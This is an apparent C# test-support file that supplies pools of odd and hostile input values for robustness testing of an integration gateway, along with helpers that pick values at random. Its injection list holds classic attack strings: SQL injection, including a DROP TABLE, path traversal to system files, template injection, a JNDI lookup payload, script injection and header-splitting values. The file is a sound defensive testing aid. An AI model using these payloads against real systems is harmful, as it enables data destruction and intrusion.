namespace IntegrationGateway.TestSupport.Hostile;

/// <summary>Pools of odd text a connector might send; each entry is plain text (JSON-escaped where it goes into a body).</summary>
public static class HostileValues
{
    /// <summary>Unicode that is valid text but unusual: non-ASCII, right-to-left, controls, NUL, zero-width, emoji.</summary>
    public static readonly string[] Unicode =
    [
        "ключ", "注文-001", "SKU-ÄÖÜ-é", "\u202Eevil\u202C", "\u05E9\u05DC\u05D5\u05DD", "\u0000", "A\u0000B",
        "\u0001\u0002\u001F", "\t", "line\nbreak", "cr\rlf", "\u200B", "\uFEFFbom", "e\u0301", "\U0001F4A9", "\U0001F468\u200D\U0001F469",
        "\u007F", "\u0085", "\u2028", "\uFFFD", "\uFFFF", "\u00A0", " leading", "trailing ", "   ",
    ];

    /// <summary>Injection strings for SQL, paths, templates, logs and headers.</summary>
    public static readonly string[] Injection =
    [
        "' OR '1'='1", "'; DROP TABLE balances; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)", "%' --",
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/process/v1/orders", "{{7*7}}", "${jndi:ldap://x/a}", "<script>alert(1)</script>",
        "%00", "%2e%2e%2f", "$where", "{\"$gt\":\"\"}", "admin'--", "*", "SKU-0001\r\nX-Injected: 1", "null", "undefined", "NaN",
    ];

    /// <summary>Lone or reversed surrogates as JSON escapes: legal JSON syntax, never valid text (RFC 7493).</summary>
    public static readonly string[] LoneSurrogateEscapes = ["\\ud800", "x\\udfffy", "\\udc00\\ud800", "\\ud83d"];

    /// <summary>Bytes that are not UTF-8: a Latin-1 e-acute, a bare continuation byte, an overlong slash, FF.</summary>
    public static readonly byte[][] NotUtf8 = [[0xE9], [0x80], [0xC0, 0xAF], [0xFF, 0xFE], [0xED, 0xA0, 0x80], [0xC3, 0x28]];

    public static string Pick(this Random random, IReadOnlyList<string> values) => values[random.Next(values.Count)];

    public static T Pick<T>(this Random random, IReadOnlyList<T> values) => values[random.Next(values.Count)];

    public static string Long(this Random random, int length) => new(random.Pick(['A', 'x', '9', 'é']), length);

    /// <summary>Long ASCII text, for headers (non-ASCII header values are a mutation of their own).</summary>
    public static string LongAscii(this Random random, int length) => new(random.Pick(['A', 'x', '9', '-']), length);
}
